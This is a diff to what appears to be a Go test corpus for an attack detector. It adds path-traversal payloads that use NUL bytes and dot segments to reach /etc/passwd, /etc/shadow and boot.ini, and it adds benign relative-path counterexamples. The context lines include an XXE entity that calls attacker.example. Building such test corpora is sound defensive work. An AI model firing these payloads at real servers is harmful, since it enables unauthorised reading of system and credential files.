@@ -38,6 +38,13 @@ func init() {
 		attackEntry{lQ, "f", "0x2e0x2e0x2fconfig.php", "path-traversal", encAll},
 		attackEntry{lJ, "path", "0x2e0x2e0x5c0x2e0x2e0x5cboot.ini", "path-traversal", encURL},
 		attackEntry{lQ, "f", "0x5c..0x5c", "path-traversal", encURL},
+		// NUL bytes a filter strips, "." segments path resolution drops, and
+		// one step to a system file.
+		attackEntry{lJ, "path", "\x00../\x00../etc/passwd", "path-traversal", 0},
+		attackEntry{lJ, "path", ".\x00./.\x00./etc/shadow", "path-traversal", 0},
+		attackEntry{lJ, "path", "../../boot.ini\x00index.html", "path-traversal", 0},
+		attackEntry{lQ, "f", "/./././././etc/passwd", "lfi-sensitive-file", encAll},
+		attackEntry{lQ, "f", "../etc/passwd", "path-traversal", encAll},
 		// The Vite dev server's virtual-module endpoint.
 		attackEntry{lP, "0", "/@id/__x00__virtual:env", "lfi-sensitive-file", encURL},
 		// A redirection that drops a file into /tmp.
@@ -62,6 +69,10 @@ func init() {
 		attackEntry{lP, "3", `<!ENTITY % d SYSTEM "http://attacker.example/d.dtd">`, "xxe-external-entity", encURL},
 	)
 	benign = append(benign,
+		// Relative links and "." segments without a system file.
+		corpusEntry{lJ, "img", "../images/logo.png"},
+		corpusEntry{lQ, "path", "./etc/app.conf"},
+		corpusEntry{lJ, "note", "See ./docs/./setup.md for details"},
 		// Hosts in prose, hosts without a path or port, public hosts.
 		corpusEntry{lQ, "q", "host.docker.internal"},
 		corpusEntry{lQ, "q", "how do I reach host.docker.internal from a container?"},
